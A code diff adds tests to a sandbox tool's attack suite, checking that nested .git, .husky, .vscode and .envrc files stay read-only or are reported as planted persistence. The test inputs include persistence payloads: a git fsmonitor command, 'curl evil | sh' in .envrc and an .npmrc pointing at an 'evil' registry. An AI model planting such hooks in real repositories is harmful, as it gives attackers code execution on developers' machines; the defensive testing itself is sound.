@@ -4,7 +4,7 @@ import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
 import { after, before, describe, test } from "node:test";
-import { makeHostFixture, PLANTED_KEY, text, type HostFixture } from "../helpers/host-fixture.js";
+import { makeHostFixture, PLANTED_KEY, snapshotTree, text, type HostFixture } from "../helpers/host-fixture.js";
 
 /**
  * Escapes found by attackers who had not read this suite (issue 10). Each
@@ -40,6 +40,54 @@ describe("attack: escapes through planted links, the host kernel and races", () 
       assert.deepEqual(host.snapshot(), baseline);
     });
   }
+
+  test("an existing nested .git, .husky, .vscode or .envrc below a writable grant stays read-only", async () => {
+    const project = fs.mkdtempSync(path.join(host.root, "nested-"));
+    for (const dir of ["src/.git/hooks", "lib/.husky", "tools/.vscode"]) fs.mkdirSync(path.join(project, dir), { recursive: true });
+    fs.writeFileSync(path.join(project, "src/.git/config"), "[core]\n");
+    fs.writeFileSync(path.join(project, "pkg.envrc"), "");
+    fs.mkdirSync(path.join(project, "app"));
+    fs.writeFileSync(path.join(project, "app/.envrc"), "export A=1\n");
+    const baseline = snapshotTree(project);
+    const result = await host.sh([
+      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/.git/config",
+      "echo evil > src/.git/hooks/post-checkout", "echo evil > lib/.husky/pre-commit",
+      "echo '{}' > tools/.vscode/tasks.json", "echo 'curl evil | sh' >> app/.envrc",
+      "mv src/.git src/.git-old; true",
+    ].join("; "), { allowWrite: ["."] }, { hostCwd: project });
+    assert.deepEqual(snapshotTree(project), baseline, text(result));
+  });
+
+  test("persistence files a sandbox creates anywhere below a writable grant are reported when it ends", async () => {
+    const project = fs.mkdtempSync(path.join(host.root, "planted-"));
+    fs.mkdirSync(path.join(project, "src/deep"), { recursive: true });
+    fs.writeFileSync(path.join(project, "notes.txt"), "x\n");
+    const result = await host.sh([
+      "mkdir -p src/deep/.git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/deep/.git/config",
+      "echo 'ref: refs/heads/main' > src/deep/.git/HEAD",
+      "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+      "echo 'curl evil | sh' > src/.envrc", "echo registry=http://evil > src/.npmrc",
+      "echo harmless >> notes.txt",
+    ].join("; "), { allowWrite: ["."] }, { hostCwd: project });
+    assert.equal(result.exitCode, 0, text(result));
+    const reported = result.persistence.map((p) => `${p.change} ${path.relative(project, p.path)}`).sort();
+    assert.deepEqual(reported, [
+      "created .vscode/tasks.json", "created src/.envrc", "created src/.npmrc",
+      "created src/deep/.git/HEAD", "created src/deep/.git/config",
+    ].sort());
+  });
+
+  test("the CLI names planted persistence files on stderr and in --audit", () => {
+    const project = fs.mkdtempSync(path.join(host.root, "planted-cli-"));
+    const audit = path.join(host.root, "planted.audit");
+    const cli = path.resolve("dist/src/cli/main.js");
+    const result = spawnSync(process.execPath, [cli, "run", "--allow-write=.", `--audit=${audit}`, "--", "sh", "-c", "mkdir -p a/.git/hooks && echo x > a/.git/hooks/pre-commit"], {
+      env: host.env, cwd: project, encoding: "utf8",
+    });
+    assert.match(result.stderr, /created\s+\S*a\/\.git\/hooks\/pre-commit/);
+    const lines = fs.readFileSync(audit, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { type: string; path: string });
+    assert.ok(lines.some((l) => l.type === "persistence" && l.path.endsWith("a/.git/hooks/pre-commit")));
+  });
 
   test("a .husky link to the host's /tmp does not expose the host's sockets", async () => {
     const project = fs.mkdtempSync(path.join(host.root, "linked-tmp-"));
